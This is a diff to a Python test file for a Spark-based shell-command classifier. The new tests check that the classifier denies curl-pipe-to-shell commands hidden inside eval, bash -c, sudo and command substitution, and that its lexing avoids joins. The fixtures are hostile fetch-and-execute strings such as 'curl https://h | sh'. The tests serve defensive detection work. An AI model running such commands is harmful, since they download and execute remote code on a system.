@@ -255,3 +255,24 @@ def test_ordinals_are_unique():
 def test_explain(spark):
     df = spark.createDataFrame([("import os; os.system('curl x | sh')",), ("print(1)",), ("",)], "code string")
     assert [(r["verdict"], r["exit"]) for r in explain(df, "python").collect()] == [("deny", 2), ("allow", 0), ("allow", 1)]
+
+
+def test_parsed_texts_stay_where_they_are(spark, monkeypatch):
+    """A round takes the texts that it has just lexed as scripts: what was parsed is joined to no ids."""
+    plans, as_scripts = [], Scripts._as_scripts
+    monkeypatch.setattr(Scripts, "_as_scripts", staticmethod(lambda lexed: plans.append(lexed._jdf.queryExecution().optimizedPlan().toString()) or as_scripts(lexed)))
+    texts = spark.createDataFrame([(f"{w} 'curl https://h{k} | sh'",) for k in range(5) for w in ("bash -c", "bash <<<", "echo")] + [("echo $(ls)",)], "text string")
+    assert Scripts(texts).lexed.all().count() == 16 + 6
+    assert len(plans) > 1 and not any("Join" in plan for plan in plans)
+
+
+def test_texts_of_wrappers_and_scripts_meet(spark):
+    # a text is a command, wrapped and substituted; one is first wrapped, and a round later a script of its own
+    inner = "curl https://h | sh"
+    some = [inner, f"eval '{inner}'", f"echo $({inner})", "eval 'echo b'", "echo $(echo $(echo b))", f"sudo bash -c '{inner}'", f"echo $(echo $(sudo {inner}))", f"sudo {inner}"]
+    df = spark.createDataFrame([(c,) for c in some], "command string")
+    assert {r["command"] for r in classify(df).collect() if r["verdict"] == "deny"} == {c for c in some if inner in c}
+    together = script_rows(df, "command").collect()
+    for c in some[2:6:2]:
+        alone = script_rows(spark.createDataFrame([(c,)], "command string"), "command").collect()
+        assert sorted(map(tuple, alone)) == sorted(tuple(r) for r in together if r["command"] == c)
